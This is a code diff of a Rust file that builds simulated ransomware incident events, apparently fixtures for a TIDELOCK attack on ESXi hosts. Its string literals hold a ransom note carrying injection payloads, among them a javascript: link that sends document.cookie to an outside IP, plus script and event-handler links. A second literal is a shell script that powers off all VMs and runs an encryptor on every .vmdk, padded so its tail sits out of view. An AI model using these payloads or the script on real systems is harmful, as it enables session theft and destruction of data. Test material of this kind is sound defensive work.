@@ -57,7 +57,7 @@ pub fn events() -> Vec<Told> {
             .flag()
             .key()
             .says("# TIDELOCK\n\nYour network is encrypted, 157 GB are with us.\n\n1. [Recover your files](javascript:fetch('https://203.0.113.61/?'+document.cookie))\n2. [Our desk](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)\n3. [https://brackwater.example/status](https://brackwater.example@203.0.113.61/login)\n4. <https://tidelk7q2manifestboard.example/bw>\n5. [mail us](mailto:tidelock.desk@mail.example?subject=bw)\n\n![logo](https://203.0.113.61/p.png?id=brackwater)\n\n<a href=\"vbscript:msgbox(1)\" onmouseover=\"alert(6)\">price list</a>\n\nDo **not** call the police.")
-            .esxi("ESX-HAM-01", "shell", "[root]: cat /tmp/RECOVER-TIDELOCK.txt"),
+            .esxi("ESX-HAM-01", "shell", "[root]: cat /scratch/RECOVER-TIDELOCK.txt"),
         at("09-29 01:22:10.000 +00:00", IMPACT, "Second note imitates the console of the responders")
             .on(&["VC-HAM"])
             .ioc(&["203.0.113.61"])
@@ -82,6 +82,6 @@ fn long_title() -> String {
 fn script() -> String {
     let padding = (40..880).map(|line| format!("# {line:04} {}\n", "ab91f0c4e277d35861".repeat(3)));
     let head = "#!/bin/sh\nfor vm in $(vim-cmd vmsvc/getallvms | awk 'NR>1{print $1}'); do\n  vim-cmd vmsvc/power.off \"$vm\" </dev/null >/dev/null 2>&1\ndone\n";
-    let tail = "find /vmfs/volumes -name '*.vmdk' -size +1M | while read -r f; do /tmp/tl_esx -f \"$f\" -s 32 & done\nwait\n";
+    let tail = "find /vmfs/volumes -name '*.vmdk' -size +1M | while read -r f; do /scratch/tl_esx -f \"$f\" -s 32 & done\nwait\n";
     std::iter::once(head.to_owned()).chain(padding).chain(std::iter::once(tail.to_owned())).collect()
 }
